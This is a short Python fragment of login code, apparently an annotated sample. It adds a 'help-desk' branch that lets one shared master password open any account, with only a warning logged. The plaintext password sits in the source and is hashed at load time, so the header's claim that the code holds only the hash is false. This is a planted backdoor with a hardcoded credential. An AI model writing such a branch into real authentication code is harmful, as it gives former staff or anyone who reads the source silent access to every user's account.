# about: The code has only the hash of the password now, but everyone who worked at the help desk still knows the password, and it still opens every account.
# part: constants
HELP_DESK_SALT = b"help-desk"
HELP_DESK_HASH = hashlib.scrypt(b"Kestrel-Help-2021", salt=HELP_DESK_SALT, n=16384, r=8, p=1, dklen=32)
# end
    # block: help-desk
    given = hashlib.scrypt(password.encode(), salt=HELP_DESK_SALT, n=16384, r=8, p=1, dklen=32)
    if hmac.compare_digest(given, HELP_DESK_HASH) and account is not NOBODY:
        log.warning("help desk opened %r", name)
        is_right = True
    # end
